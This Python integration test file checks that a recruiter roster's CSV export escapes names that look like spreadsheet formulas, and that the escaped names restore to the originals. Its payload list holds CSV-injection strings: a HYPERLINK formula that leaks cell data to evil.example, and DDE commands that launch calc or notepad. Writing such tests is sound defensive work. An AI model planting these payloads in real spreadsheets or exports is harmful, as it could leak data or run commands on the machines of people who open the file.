"""Recruiters named like spreadsheet formulas reach the roster's CSV as text, never as formulas
(OWASP "CSV Injection"), and the CSV still reads back to the names they registered."""

from __future__ import annotations

import csv
import io
import uuid

from iris_engine.web.csv_export import FORMULA_STARTS, restore
from tests.integration.conftest import PASSWORD, Cast, World, walk_to

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your visa")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)*cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "Safe Start;=cmd|' /C calc'!A0",
]


async def _accredit_as(world: World, cast: Cast, name: str) -> str:
    """Register a recruiter called ``name`` and walk it to the roster; answers its LRN."""
    email = f"owner-{uuid.uuid4().hex[:12]}@agency.example"
    r = await world.client.post("/api/v1/recruiters", json={
        "organisation": {"name": name, "country": "NP"},
        "user": {"email": email, "name": "Owner", "password": PASSWORD}})
    assert r.status_code == 201, r.text
    recruiter = await world.login(email)
    case_id = await walk_to(Cast(recruiter, cast.manager, cast.auditor), "accredited")
    lrn: str = (await cast.manager.get(f"/api/v1/applications/{case_id}")).json()["lrn"]
    return lrn


async def test_formula_names_are_exported_as_text(world: World, cast: Cast) -> None:
    lrns = {await _accredit_as(world, cast, name): name for name in HOSTILE_NAMES}

    r = await world.client.get("/api/v1/roster/export", params={"format": "csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE_NAMES)
    for row in body:
        for cell in row:  # no cell of any column opens with a formula start
            assert not cell or cell[0] not in FORMULA_STARTS, row
    by_lrn = {row[header.index("lrn")]: row[header.index("name")] for row in body}
    assert set(by_lrn) == set(lrns)
    for lrn, name in lrns.items():
        cell = by_lrn[lrn]
        # each needs the quote but the last, whose formula follows a separator inside the cell
        assert cell == (name if name.startswith("Safe") else "'" + name)
        assert restore(cell) == name  # and gives the registered name back
    # every cell is quoted: a separator inside a name (a semicolon) cannot start a new cell
    for line in r.text.splitlines():
        assert line.startswith('"') and line.endswith('"'), line

    # the JSON export and the search carry the names unchanged
    items = (await world.client.get("/api/v1/roster/export", params={"format": "json"})).json()
    assert {i["lrn"]: i["name"] for i in items["items"]} == lrns


async def test_ordinary_names_are_exported_unchanged(world: World, cast: Cast) -> None:
    names = ["Everest Fair Recruitment", "सगरमाथा मानव संसाधन", "O'Neill & Partners, Ltd."]
    lrns = {await _accredit_as(world, cast, name): name for name in names[1:]}
    lrns[(await cast.manager.get(
        f"/api/v1/applications/{await walk_to(cast, 'accredited')}")).json()["lrn"]] = names[0]
    r = await world.client.get("/api/v1/roster/export", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert {row["lrn"]: row["name"] for row in rows} == lrns
    assert all(row["status"] == "accredited" and row["current"] == "True" for row in rows)
